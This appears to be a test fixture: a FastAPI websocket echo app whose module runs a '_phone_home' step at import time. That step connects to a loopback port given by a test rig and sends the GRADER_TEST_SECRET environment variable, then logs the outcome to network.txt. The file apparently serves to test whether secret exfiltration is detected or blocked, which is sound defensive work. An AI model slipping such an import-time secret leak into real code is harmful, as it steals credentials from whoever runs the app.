# attack: connects to a service on 127.0.0.1 (port from the rig) and sends the grading secret; records success in cwd
# honest: fail
# ruff: noqa
import os
import socket

from fastapi import FastAPI, WebSocket, WebSocketDisconnect


# --- test rig: tests/test_trust.py says where things are, in the environment and in
# "# hostile-<key>: <value>" lines it appends to this file. Attempts only ever touch
# paths inside its throwaway folder (the one holding a HOSTILE_PLAYGROUND file). ---
def _rig(key):
    value = os.environ.get("HOSTILE_" + key.upper().replace("-", "_"))
    if value:
        return value
    try:
        with open(__file__, encoding="utf-8") as source:
            for line in source:
                if line.startswith(f"# hostile-{key}: "):
                    return line.split(": ", 1)[1].strip()
    except OSError:
        pass
    return None


def _playground(path):
    folder = os.path.realpath(path)
    while True:
        if os.path.exists(os.path.join(folder, "HOSTILE_PLAYGROUND")):
            return True
        parent = os.path.dirname(folder)
        if parent == folder:
            return False
        folder = parent


def _phone_home():
    port = _rig("loopback-port")
    if not port:
        return "no port"
    try:
        with socket.create_connection(("127.0.0.1", int(port)), timeout=0.5) as conn:
            conn.sendall(b"mallory " + os.environ.get("GRADER_TEST_SECRET", "?").encode() + b"\n")
        return "connected"
    except OSError as exc:
        return f"refused: {exc}"


outcome = _phone_home()
try:
    with open("network.txt", "w") as out:
        out.write(outcome + "\n")
except OSError:
    pass


app = FastAPI()


@app.websocket("/ws")
async def ws(websocket: WebSocket):
    await websocket.accept()
    try:
        while True:
            await websocket.receive_text()
            await websocket.send_text("ok")
    except WebSocketDisconnect:
        pass
